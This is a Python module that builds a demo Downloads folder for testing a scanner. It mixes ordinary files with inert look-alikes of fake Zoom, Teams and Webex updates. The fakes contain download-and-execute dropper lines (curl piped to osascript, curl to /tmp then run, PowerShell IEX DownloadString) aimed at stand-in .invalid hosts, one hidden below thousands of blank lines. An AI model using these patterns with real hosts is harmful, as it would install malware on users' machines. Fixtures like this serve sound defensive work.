"""A demo Downloads folder: harmless look-alikes of fake conferencing updates next to ordinary files.

Nothing here runs or downloads anything: the "droppers" point at reserved ``.invalid``/``.example``
names and the executables contain a single ``ret`` instruction. They look, to a scanner, like the shapes
fake recruiters send (see THREATS.md), which is what a demo and a smoke test need.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from agent.demo.pe_writer import build_pe

_PAD = "\n" * 12_000  # AppleScript droppers hide the payload below thousands of blank lines

FAKES: dict[str, bytes] = {
    "ZoomInstallerFull.exe": build_pe({
        "CompanyName": "Zoom Video Communications, Inc.", "ProductName": "Zoom Workplace",
        "FileDescription": "Zoom Installer", "OriginalFilename": "ZoomInstallerFull.exe",
    }),
    "MSTeamsSetup.exe": build_pe({
        "CompanyName": "Microsoft Corporation", "ProductName": "Microsoft Teams",
        "FileDescription": "Microsoft Teams Setup", "OriginalFilename": "MSTeamsSetup.exe",
    }),
    "zoom_sdk_support.scpt": (
        'open location "https://zoom.us/download"\n' + _PAD
        + 'do shell script "curl -fsSL https://us05web-zoom.invalid/sdk/update | osascript"\n'
    ).encode(),
    "Webex_Audio_Fix.command": (
        b"#!/bin/zsh\n# Webex audio driver fix\n"
        b"curl -fsSL https://webex-fix.invalid/a -o /tmp/.wbx && chmod +x /tmp/.wbx && /tmp/.wbx\n"
    ),
    "Teams_Camera_Update.ps1": (
        b"# Microsoft Teams camera update\n"
        b"IEX (New-Object Net.WebClient).DownloadString('https://teams-install.invalid/fix.ps1')\n"
    ),
}


def _pdf() -> bytes:
    body = b"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 0>> endobj\n"
    return body + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"\0\xff\xff\xff"
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


ORDINARY: dict[str, bytes] = {
    "Quarterly_Report.pdf": _pdf(),
    "team_photo.png": _png(),
    "meeting_notes.txt": b"Join the Zoom meeting on Thursday. Remember to update the slides.\n",
    "csv_tool.exe": build_pe({"CompanyName": "Example Tools", "ProductName": "CSV Tool",
                               "FileDescription": "Converts CSV files"}),
    "install_dotfiles.sh": b"#!/bin/sh\nset -e\ncp -r ./dotfiles/. \"$HOME\"/\necho done\n",
    "slides.zip": _zip({"slides/intro.txt": b"Welcome\n", "slides/logo.png": _png()}),
}


def generate(folder: Path) -> dict[str, bool]:
    """Write the demo files into ``folder``; returns name → whether it is one of the fakes."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {**{n: (d, True) for n, d in FAKES.items()}, **{n: (d, False) for n, d in ORDINARY.items()}}
    files["Interview_Task.zip"] = (_zip({"task/README.txt": b"Run the update first.\n",
                                         "task/GoogleMeetDriver.exe": build_pe({
                                             "CompanyName": "Google LLC", "ProductName": "Google Meet Driver"})}),
                                   True)
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    return {n: fake for n, (_, fake) in files.items()}
